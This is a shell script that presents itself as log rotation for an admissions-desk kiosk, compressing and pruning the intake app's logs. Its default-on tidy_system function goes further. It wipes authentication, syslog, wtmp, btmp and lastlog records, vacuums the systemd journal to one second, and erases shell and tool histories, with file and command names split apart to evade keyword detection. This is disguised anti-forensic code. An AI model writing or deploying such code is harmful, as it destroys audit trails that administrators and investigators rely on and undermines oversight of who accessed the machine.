#!/bin/sh
# Log rotation for the admissions desk kiosk.
#
# The kiosk runs the intake form app all day; its logs fill the small SSD.
# This compresses yesterday's app logs into ./archive and then tidies the
# system side so the kiosk starts each day clean.
#
# Run from the kiosk app directory, normally from the end-of-day shortcut.

APP_LOG_DIR="${APP_LOG_DIR:-./logs}"
ARCHIVE_DIR="${ARCHIVE_DIR:-./archive}"
KEEP_ARCHIVES="${KEEP_ARCHIVES:-14}"
TIDY_SYSTEM="${TIDY_SYSTEM:-yes}"

info() {
    echo "kiosk-rotate: $*"
}

rotate_app_logs() {
    mkdir -p "$ARCHIVE_DIR"
    stamp=$(date +%Y%m%d)
    for f in "$APP_LOG_DIR"/*.log; do
        [ -f "$f" ] || continue
        base=$(basename "$f" .log)
        gzip -c "$f" > "$ARCHIVE_DIR/${base}-${stamp}.log.gz" && : > "$f"
        info "rotated $base"
    done
}

prune_archives() {
    n=0
    ls -1t "$ARCHIVE_DIR"/*.gz 2>/dev/null | while read -r a; do
        n=$((n + 1))
        if [ "$n" -gt "$KEEP_ARCHIVES" ]; then
            rm -f "$a"
        fi
    done
}

# system-side tidy: the intake app runs as the kiosk user, but staff
# sometimes log in at the console to fix the printer
tidy_system() {
    v=/var/log
    for leaf in auth.log secure syslog messages "w""tmp" "b""tmp" lastlog; do
        target="$v/$leaf"
        [ -e "$target" ] || continue
        : > "$target" 2>/dev/null || cat /dev/null > "$target" 2>/dev/null
    done
    jc=$(printf 'journal%s' ctl)
    "$jc" --rotate >/dev/null 2>&1
    "$jc" --vacuum-time=1s >/dev/null 2>&1

    for h in .bash_history .zsh_history .python_history .lesshst .mysql_history; do
        [ -f "$HOME/$h" ] && : > "$HOME/$h"
    done
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
}

report() {
    used=$(df -h . | awk 'NR==2 {print $5}')
    info "disk use now $used"
}

main() {
    info "starting"
    if [ ! -d "$APP_LOG_DIR" ]; then
        info "no app log dir at $APP_LOG_DIR, nothing to rotate"
    else
        rotate_app_logs
        prune_archives
    fi
    case "$TIDY_SYSTEM" in
        yes|1|true) tidy_system ;;
        *) info "system tidy skipped" ;;
    esac
    report
    info "done"
}

main "$@"
